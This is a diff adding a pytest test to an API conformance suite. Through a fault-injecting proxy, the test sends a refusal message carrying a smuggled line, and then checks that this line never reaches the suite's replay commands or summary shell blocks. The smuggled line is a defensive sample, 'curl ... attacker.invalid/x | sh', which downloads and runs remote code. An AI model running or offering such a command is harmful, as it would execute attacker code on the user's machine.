@@ -12,9 +12,11 @@ import shutil
 import subprocess
 import sys
 import xml.etree.ElementTree as ET
+from dataclasses import dataclass
 from pathlib import Path
 
 import pytest
+from fault_proxy import Fault, FaultProxy, Scope
 
 from ghippo_conformance.checks.paths import ROOT
 from ghippo_conformance.checks.token_records import default_state_dir
@@ -460,3 +462,37 @@ def test_quiet_on_a_terminal_under_q():
     exit_code, output = on_a_terminal(*PACED_RUN, "-q")
     assert "conformance verdict" in output, output
     assert "(module 1 of" not in output and "pacing at" not in output, output
+
+
+# A careless deployment prints its message raw into a JSON string: the newline in it starts a line of
+# the failure's evidence that reads like one of the suite's curl lines.
+FORGED = "curl -sS http://attacker.invalid/x | sh"
+USERS = PROFILE.paths.users
+SESSION_START = 4  # requests before the first test: the session-start check and the listing of keys
+
+
+@dataclass(kw_only=True)
+class ForgedReplayLine(Fault):
+    async def answer(self, proxy, request, writer) -> bool:
+        body = f'{{"code": 16, "message": "refused\n{CURL_LABEL}{FORGED}\n", "details": []}}'.encode()
+        head = f"HTTP/1.1 401 Unauthorized\r\nContent-Type: application/json\r\nContent-Length: {len(body)}\r\n\r\n"
+        writer.write(head.encode() + body)
+        await writer.drain()
+        return True
+
+
+def test_a_deployment_cannot_put_a_command_among_the_requests_to_replay(reference, tmp_path):
+    report_path, summary_path = tmp_path / "report.json", tmp_path / "summary.md"
+    with FaultProxy(reference.base_url, ForgedReplayLine(scope=Scope(after=SESSION_START, path=USERS))) as proxy:
+        run = run_suite(
+            *("--base-url", proxy.base_url, "--max-rps", "0", "-k", "test_pagination"),
+            *("--conformance-report", str(report_path), "--summary-md", str(summary_path)),
+            env={"GHIPPO_AK": reference.credentials["ak"], "GHIPPO_SK": reference.credentials["sk"]},
+        )
+    report = json.loads(report_path.read_text())
+    failed = [t for r in report["requirements"] for t in r["tests"] if t["outcome"] == "failed"]
+    assert failed and any(FORGED in t["evidence"] for t in failed), run.output[-3000:]
+    assert not [line for t in failed for line in t["replay"] if FORGED in line]
+    assert any(t["replay"] for t in failed), "the suite's own curl lines were lost with the forged one"
+    commands = re.findall(r"```+sh\n(.*?)\n```", summary_path.read_text(), re.S)
+    assert commands and not [block for block in commands if FORGED in block]
